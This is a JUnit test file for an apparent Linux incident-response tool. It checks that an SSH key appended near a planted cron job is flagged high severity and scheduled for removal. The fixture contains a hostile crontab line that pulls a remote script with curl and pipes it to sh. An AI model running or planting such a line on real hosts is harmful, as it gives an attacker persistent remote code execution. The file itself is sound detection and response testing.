package dev.ferret.respond.linux;

import dev.ferret.collect.CollectOptions;
import dev.ferret.collect.linux.access.AccessScenarios;
import dev.ferret.collect.linux.persistence.Fixture;
import dev.ferret.data.DetectionData;
import dev.ferret.data.rules.Golden;
import dev.ferret.model.Coverage;
import dev.ferret.model.Finding;
import dev.ferret.model.Severity;
import dev.ferret.respond.plan.Action;
import dev.ferret.respond.plan.ExpectedLine;
import dev.ferret.respond.plan.Plan;
import dev.ferret.respond.plan.PlanOptions;
import dev.ferret.scan.Area;
import dev.ferret.scan.Catalog;
import dev.ferret.scan.ScanEngine;
import dev.ferret.scan.ScanRequest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * An authorized_keys change is medium on its own; in the same hours as a planted download-and-run cron line it is
 * high, and respond then plans to remove the appended key (the owner's first key stays). Days apart, it stays a
 * medium review item and gets no step.
 */
class KeyInCompromiseWindowTest {
    private static final String KEYS = "/root/.ssh/authorized_keys";

    @TempDir
    Path root;

    private List<Finding> scan(Duration keyAge) throws Exception {
        Instant now = Instant.now();
        Fixture tree = new Fixture(root)
                .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
                .file(KEYS, "ssh-ed25519 " + AccessScenarios.keyBlob("admin") + " admin@laptop\n"
                        + "ssh-ed25519 " + AccessScenarios.keyBlob("intruder") + " x\n")
                .file("/var/spool/cron/crontabs/root", "*/5 * * * * curl -fsSL http://203.0.113.9/x.sh | sh\n");
        Files.setLastModifiedTime(tree.at(KEYS), FileTime.from(now.minus(keyAge)));
        Files.setLastModifiedTime(tree.at("/var/spool/cron/crontabs/root"), FileTime.from(now.minus(Duration.ofHours(2))));
        DetectionData data = DetectionData.builtIn();
        return new ScanEngine(Catalog.linuxCollectors(data), Catalog.primaryDetectors(), Catalog.pivotDetectors(),
                Clock.systemUTC()).run(new ScanRequest(EnumSet.of(Area.ACCESS, Area.PERSISTENCE, Area.FILES),
                        tree.root(), false, new CollectOptions(Duration.ofMillis(100), false), data), new Coverage())
                .findings();
    }

    private Plan plan(List<Finding> findings) {
        LinuxPlanner.Context ctx = new LinuxPlanner.Context("web01", root, false, false, "web01",
                ProcessTable.of(List.of()), new Protection(List.of(), List.of(), PackageFiles.of(Map.of()), root),
                DetectionData.builtIn(), Firewall.of(Firewall.Tool.IPTABLES), false, "/kit/store");
        return new LinuxPlanner(ctx).plan(findings, PlanOptions.defaults(), "test", Instant.now());
    }

    private static Optional<Action.RemoveLines> keyEdit(Plan p) {
        return p.steps().stream().map(s -> s.action()).filter(a -> a instanceof Action.RemoveLines r
                && r.path().equals(KEYS)).map(a -> (Action.RemoveLines) a).findFirst();
    }

    @Test
    @Golden("linux.access.ssh-key-in-compromise-window")
    void aKeyAddedAnHourFromThePlantedCronLineIsHighAndItsLineIsRemoved() throws Exception {
        List<Finding> findings = scan(Duration.ofHours(1));
        Finding added = findings.stream().filter(f -> f.ruleId().equals("linux.access.ssh-key-added")).findFirst()
                .orElseThrow(() -> new AssertionError(findings.toString()));
        assertTrue(added.severity().compareTo(Severity.HIGH) < 0, "alone, a key change is a review item: " + added);
        Finding window = findings.stream().filter(f -> f.ruleId().equals("linux.access.ssh-key-in-compromise-window"))
                .findFirst().orElseThrow(() -> new AssertionError(findings.toString()));
        assertTrue(window.severity().compareTo(Severity.HIGH) >= 0, window.toString());
        assertTrue(window.reasons().get(0).text().contains("60 min from"), window.reasons().toString());
        assertEquals(2, window.persistence().line(), "the appended key");

        Plan plan = plan(findings);
        Action.RemoveLines edit = keyEdit(plan).orElseThrow(() -> new AssertionError("no step for the key:\n"
                + LinuxPlannerTest.dump(plan) + plan.notes()));
        assertEquals(List.of(2), edit.lines().stream().map(ExpectedLine::line).toList());
    }

    @Test
    void aKeyChangedDaysApartStaysAReviewItem() throws Exception {
        List<Finding> findings = scan(Duration.ofDays(3));
        assertTrue(findings.stream().anyMatch(f -> f.ruleId().equals("linux.access.ssh-key-added")), findings.toString());
        assertTrue(findings.stream().noneMatch(f -> f.ruleId().equals("linux.access.ssh-key-in-compromise-window")),
                findings.toString());
        assertTrue(keyEdit(plan(findings)).isEmpty());
    }
}
